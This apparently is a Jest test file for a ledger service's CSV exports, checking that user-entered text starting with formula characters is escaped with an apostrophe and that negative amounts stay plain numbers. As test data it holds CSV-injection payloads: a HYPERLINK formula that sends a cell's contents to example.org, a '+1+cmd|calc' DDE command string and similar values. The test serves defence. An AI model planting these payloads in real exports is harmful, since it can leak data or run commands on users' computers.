import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { LedgerUnderTest, LINE } from '../testing/ledger-under-test.fixture.ts';

const P01 = 'budget-accounts/2569/P01';
const HYPERLINK = '=HYPERLINK("https://example.org/?"&A1,"open")';
const HOSTILE = [HYPERLINK, '+1+cmd|calc', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '＝1+1', ' =1+1'];
const RUNS = /^(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/u;
const FIGURE = /^-?\d+(?:\.\d+)?$/;

let ledger: LedgerUnderTest;

/** The CSV of a question as a spreadsheet reads it. */
async function csv(path: string): Promise<Record<string, string>[]> {
  const reply = await ledger.get(`${path}${path.includes('?') ? '&' : '?'}format=csv`);
  expect([reply.status, reply.headers['content-type']]).toEqual([200, 'text/csv; charset=utf-8']);
  return parse(reply.text, { columns: true });
}

const running = (rows: readonly Record<string, string>[]) =>
  rows.flatMap((row) => Object.values(row)).filter((cell) => RUNS.test(cell) && !FIGURE.test(cell));

beforeAll(async () => {
  ledger = await LedgerUnderTest.open();
  await ledger.must('budget-accounts', {
    fiscalYear: 2569,
    project: 'P01',
    name: HYPERLINK,
    nameEn: '@SUM(A1:A9)',
    effectiveOn: '2025-10-01',
  });
  await ledger.must(`${P01}/allocations`, { line: LINE, amount: '1000000.00', effectiveOn: '2025-10-01' });
  for (const [index, text] of HOSTILE.entries()) {
    await ledger.must(`${P01}/commitments`, {
      commitment: `PO-${index}`,
      line: LINE,
      amount: '10000.00',
      description: text,
      reason: text,
      effectiveOn: '2025-11-01',
    });
  }
  await ledger.must(`${P01}/commitments/PO-1/amendments`, {
    change: '-4000.00',
    reason: HYPERLINK,
    effectiveOn: '2026-01-10',
  });
});
afterAll(() => ledger.close());

describe('a text that a user wrote for a spreadsheet to run', () => {
  it.each([
    ['budget-accounts?fiscalYear=2569'],
    ['commitments?fiscalYear=2569'],
    ['journal'],
    ['reports/quarterly?fiscalYear=2569&quarter=Q2'],
    ['reports/quarterly?fiscalYear=2569&quarter=Q2&byQuarter=true'],
    ['reports/budget-book?fiscalYear=2569'],
    ['reports/budget-status?fiscalYear=2569'],
    ['reports/ageing?fiscalYear=2569'],
    ['explain?fiscalYear=2569&quarter=Q1&project=P01&measure=committed'],
    ['diff?fiscalYear=2569&quarter=Q2&from=3'],
  ])('is text in %s', async (path) => {
    const rows = await csv(path);
    expect(rows.length).toBeGreaterThan(0);
    expect(running(rows)).toEqual([]);
  });

  it('is there as it was written, behind an apostrophe, and as it was in JSON', async () => {
    const [account] = await csv('budget-accounts?fiscalYear=2569');
    expect(account).toEqual({ project_code: 'P01', name: `'${HYPERLINK}`, name_en: "'@SUM(A1:A9)" });
    const commitments = await csv('commitments?fiscalYear=2569');
    expect(commitments.map(({ description }) => description)).toEqual(HOSTILE.map((text) => `'${text}`));
    expect((await ledger.get('commitments?fiscalYear=2569')).json).toMatchObject({
      rows: HOSTILE.map((description) => ({ description })),
    });
  });

  it('leaves a negative amount the plain number that it is', async () => {
    const journal = await csv('journal?type=CommitmentAmended');
    expect(journal.map(({ amount, reason }) => [amount, reason])).toEqual([['-4000.00', `'${HYPERLINK}`]]);
    const quarters = await csv('reports/quarterly?fiscalYear=2569&quarter=Q2&byQuarter=true');
    expect(quarters.map(({ committed_m }) => committed_m)).toContain('-0.0040');
  });
});
